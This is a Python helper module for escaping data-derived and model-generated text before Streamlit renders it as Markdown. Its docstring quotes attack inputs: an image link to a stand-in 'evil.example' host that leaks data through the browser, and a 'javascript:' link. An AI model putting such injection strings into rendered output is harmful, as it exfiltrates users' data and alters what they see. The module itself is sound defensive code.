"""One escaping helper for data-derived text shown as Markdown (column names, values, model output).

Streamlit renders `st.markdown`, `st.caption`, `st.info`/`warning`/`error`, labels and tab names as
Markdown. Text that comes from the data or the model must be shown as the characters it is: a
column named `![x](https://evil.example/?leak)` would otherwise make the viewer's browser fetch
that address (data leaving through the browser, not the sandbox), and `[click](javascript:…)`,
`:red[…]`, `$…$` or raw HTML would change what the page shows.

`escape_md(text)` backslash-escapes every ASCII punctuation character (CommonMark allows that for
all of them, and it also breaks bare-URL autolinks, Streamlit's `:color[…]`/`:icon:` directives
and `$` math) and turns line breaks into spaces, so the text stays one inline run.
`escape_md(text, code=True)` instead returns an inline code span whose fence is longer than any
backtick run inside, so nothing in it can close the span.
"""

from __future__ import annotations

import re
from typing import Any

_PUNCT = re.compile(r"([!-/:-@\[-`{-~])")  # every ASCII punctuation character
_BREAKS = re.compile(r"[\r\n\u2028\u2029\x0b\x0c]+")
_CONTROL = re.compile(r"[\x00-\x08\x0e-\x1f\x7f]")


def escape_md(value: Any, code: bool = False, limit: int | None = 2000) -> str:
    """`value` as Markdown that renders exactly as its text (see the module docstring)."""
    text = _CONTROL.sub("", _BREAKS.sub(" ", "" if value is None else str(value)))
    if limit is not None and len(text) > limit:
        text = text[:limit] + "…"
    if code:
        longest = max((len(m) for m in re.findall(r"`+", text)), default=0)
        fence = "`" * (longest + 1)
        pad = " " if text.startswith("`") or text.endswith("`") or not text.strip() else ""
        return f"{fence}{pad}{text}{pad}{fence}"
    return _PUNCT.sub(r"\\\1", text)


def defuse_md(doc: str) -> str:
    """A whole Markdown document (the report preview) with its formatting kept but nothing that
    makes the browser fetch: every image (`![alt](url)`, `![alt][ref]`) becomes its literal text.
    Raw HTML is already not rendered by `st.markdown`. Use `escape_md` for single values."""
    return str(doc).replace("![", "!\\[")
